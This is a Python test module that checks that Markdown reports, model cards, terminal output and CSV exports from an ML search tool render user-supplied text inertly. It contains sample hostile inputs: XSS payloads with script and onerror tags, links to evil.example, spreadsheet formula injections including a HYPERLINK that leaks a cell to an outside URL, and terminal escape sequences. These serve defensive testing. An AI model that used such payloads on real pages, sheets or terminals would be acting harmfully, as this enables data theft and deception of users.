"""Names, notes and reasons of strangers, wherever they are shown: words, and nothing else."""

from __future__ import annotations

import csv
import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from search.console import open_console, print_line
from search.tables import Column, FittedTable
from search.trials.export_words import describe_winner
from search.trials.trial_note import TrialNote
from storage.files.markdown import (
    describe_basis,
    escape_markup,
    escape_paragraph,
    format_table,
)
from storage.files.model_card import model_card
from storage.files.spreadsheets import plain_csv, plain_frame
from storage.files.study_summary import write_files

ROOT = Path(__file__).parent.parent
HOSTILE = (
    "<img src=x onerror=alert(1)> <script>alert(2)</script> &lt;b&gt; [click](https://evil.example)"
    " ![p](//evil.example/p.png) www.evil.example me@evil.example javascript:x ``` `b` | <b>c"
)
FORBIDDEN = {"img", "script", "a", "b", "iframe", "li", "h1"}


class Tags(HTMLParser):
    """What a page consists of: tags with their sources and places, and words."""

    def __init__(self, content: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.places: set[str] = set()
        self.words = ""
        self.feed(content)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.places |= {str(value) for name, value in attrs if name in ("src", "href")}

    def handle_data(self, data: str) -> None:
        self.words += data


def render(markdown: str) -> Tags:
    """Read Markdown as GitHub and the dashboard do, raw HTML and all."""
    return Tags(MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown))


@pytest.mark.parametrize("start", ["", "1. ", "- ", "# ", "> ", "=== ", "--- ", "https://e.f "])
def test_no_text_becomes_html_or_a_link(start: str) -> None:
    said = start + HOSTILE
    table = {"title": said, "columns": [said], "rows": [[said]], "note": said}
    for written in (escape_paragraph(said), format_table(table)):
        page = render(written)
        assert not page.tags & FORBIDDEN - ({"h3"} if written.startswith("#") else set())
        assert page.places == set()
        assert page.words.count(said) == (4 if written.startswith("#") else 1)
    # what some readers make links of, without brackets, stands in code
    outside = re.sub(r"(?<!\\)`.*?`", "", escape_paragraph(said))
    assert not re.search(r"://|www\.|\w@\w", outside), outside


@example(["a@b.c", "+", "a@b.c"])
@given(st.lists(st.sampled_from([*"\\`*_[]()<>#$~&|!-+.= x", "a@b.c", "http://", "www.", "x:"])))
def test_any_text_reads_as_it_was_written(pieces: list[str]) -> None:
    said = " ".join("".join(pieces).split())
    page = render(f"so: {escape_markup(said)}")
    assert page.tags <= {"p", "code"}
    assert page.words.strip() == f"so: {said}".strip()
    table = {"title": "t", "columns": [said], "rows": [[said]], "note": "", "measured_on": said}
    cells = render(format_table(table))
    assert cells.tags <= {"h3", "p", "table", "thead", "tbody", "tr", "th", "td", "code"}
    assert cells.words.split() == [
        "t",
        *said.split(),
        *said.split(),
        *describe_basis(table).split(),
    ]


def spoil(found: Any, depth: int = 0) -> Any:
    """The same with hostile words in every text and under every name below the first level."""
    match found:
        case dict():
            return {
                (f"{name} {HOSTILE}" if depth and name in TOLD else name): spoil(value, depth + 1)
                for name, value in found.items()
            }
        case list():
            return [spoil(value, depth + 1) for value in found]
        case str():
            return f"{found} {HOSTILE}"
    return found


TOLD = ("latent", "channels", "lr")  # names that a user gives


@pytest.mark.parametrize("piece", ["a", "a1", "a.", "_", "a@", "http:/", "`"])
def test_a_long_text_takes_no_longer_than_many_short_ones(piece: str) -> None:
    """Ten times the length took a hundred times as long: hours for a million letters."""
    said = piece * (400_000 // len(piece))
    assert escape_markup(said).replace("\\", "") == said


def test_a_model_card_shows_hostile_names_and_notes_as_they_are() -> None:
    about = json.loads(
        (ROOT / "tests/fixtures/old_run/exports/small/1/provenance.json").read_text()
    )
    metric, pictures = about["metric"], about["pictures"]
    spoilt = spoil(about)
    table = {"name": "x", "title": HOSTILE, "columns": [HOSTILE], "rows": [[HOSTILE]]}
    spoilt |= {
        "metric": metric, "direction": about["direction"], "test": about["test"],
        "valid": about["valid"], "pictures": dict.fromkeys(pictures, HOSTILE),
        "tables": [{**table, "note": HOSTILE, "seeds": HOSTILE, "measured_on": HOSTILE}],
        "attributes": {HOSTILE: [0.0, 1.0]},
        "programs": [["encoder", HOSTILE, HOSTILE]], "output_differences": {"encoder": 0.0},
        "baseline": {"what": HOSTILE, "valid": 1.0, "test": 1.0}, "remarks": [HOSTILE],
        "verdict": {"verdict": "d_won", "verdict_epoch": 1, "verdict_reason": HOSTILE},
        "loading": [f"# {HOSTILE}"], "onnx_usage": [f"# {HOSTILE}"],
    }  # fmt: skip
    page = render(model_card(spoilt, rest="provenance.json"))
    assert page.tags & FORBIDDEN <= {"img", "li", "h1"}
    assert page.places == set(pictures)
    assert page.words.count(HOSTILE) > 20


def test_notes_of_a_trial_and_a_winner_show_hostile_words_as_they_are() -> None:
    note = TrialNote(metric=HOSTILE, minimize=True, place=HOSTILE)
    told = {"seconds": 3.0, "reason": HOSTILE, "bound": 1.0}
    told |= {"verdict": "d_won", "verdict_epoch": 1, "verdict_reason": HOSTILE}
    winner = {
        "metric": HOSTILE, "trial": 3, "test": None, "valid": {HOSTILE: 0.1},
        "parameters": {HOSTILE: HOSTILE},
    }  # fmt: skip
    for written in (
        note.describe_progress({0: 0.5}, epochs=3),
        note.describe_end("failed", {0: 0.5}, told),
        describe_winner(winner),
    ):
        page = render(written)
        assert not page.tags & FORBIDDEN
        assert page.places == set()
        assert HOSTILE in page.words


def test_a_terminal_obeys_no_text() -> None:
    steering = "\x1b]0;owned\x07\x1b[31mred\u202e [/x] :smile:"
    console = open_console()
    with console.capture() as shown:
        console.print(steering)
        console.print(FittedTable([Column(steering, [steering])], title=steering, note=steering))
        print_line(console, steering)
    assert "\x1b" not in shown.get()
    assert "\u202e" not in shown.get()
    assert shown.get().replace("\n", "").count(r"\x1b]0;owned\x07") >= 5


def test_a_csv_holds_no_formulas(tmp_path: Path) -> None:
    said = ['=HYPERLINK("http://e.f/?"&A1)', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\uff1d1"]
    frame = pd.DataFrame({"=name": [*said, "-0.5"], "value": [-1.5] * 7, "none": [None] * 7})
    path = tmp_path / "t.csv"
    plain_frame(frame).to_csv(path, index=False)
    head, *rows = csv.reader(path.read_text().splitlines())
    assert head == ["'=name", "value", "none"]
    assert [row[0] for row in rows] == [*(f"'{text}" for text in said), "-0.5"]
    assert {row[1] for row in rows} == {"-1.5"}
    assert list(frame["=name"]) == [*said, "-0.5"]
    table = {"title": "t", "columns": ["=a"], "rows": [["=1+1"], [-2.0]], "note": ""}
    _, sheet = write_files(tmp_path, table)
    assert sheet.read_text().splitlines() == ["'=a", "'=1+1", "-2.0"]
    assert plain_csv('Number,=x\r\n-1,"=a, b"\r\n') == "Number,'=x\r\n-1,\"'=a, b\"\r\n"
